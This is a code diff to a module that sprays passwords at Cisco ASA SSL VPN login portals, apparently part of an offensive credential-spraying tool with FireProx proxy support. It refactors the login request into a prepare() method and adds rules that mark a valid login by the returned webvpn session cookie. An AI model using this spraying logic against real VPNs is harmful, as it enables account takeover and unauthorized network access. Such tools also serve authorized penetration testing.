@@ -1,5 +1,4 @@
-import requests
-
+from .classes.Attempt import HttpRequest
 from .classes.BaseHttpTarget import BaseHttpTarget
 
 
@@ -7,6 +6,13 @@ class CiscoSSLVPN(BaseHttpTarget):
     NAME = "CiscoSSLVPN"
     DESCRIPTION = "Spray Cisco SSL VPN (Cisco ASA)"
 
+    RULES = [
+        # Successful logins get a webvpn session cookie
+        {"cookie": "webvpn", "result": "Success", "message": "Valid login"},
+
+        {"body": "Login failed", "result": "Fail"},
+    ]
+
     def __init__(self, host, port, timeout, fireprox):
         self.group = input("Enter VPN group: ")
         self.timeout = timeout
@@ -51,25 +57,13 @@ class CiscoSSLVPN(BaseHttpTarget):
         }
     """
 
-    def set_username(self, username):
-        self.data["username"] = username
-        self.username = username
-
-    def set_password(self, password):
-        self.data["password"] = password
-        self.password = password
-
-    def login(self, username, password):
-        # set data
-        self.set_username(username)
-        self.set_password(password)
-        # post the request
-        response = requests.post(
-            self.url,
+    def prepare(self, username, password):
+        return HttpRequest(
+            username,
+            password,
+            url=self.url,
             headers=self.headers,
             cookies=self.cookies,
-            data=self.data,
+            data={**self.data, "username": username, "password": password},
             timeout=self.timeout,
-            verify=False,
-        )  # , proxies=self.proxyDict)
-        return response
+        )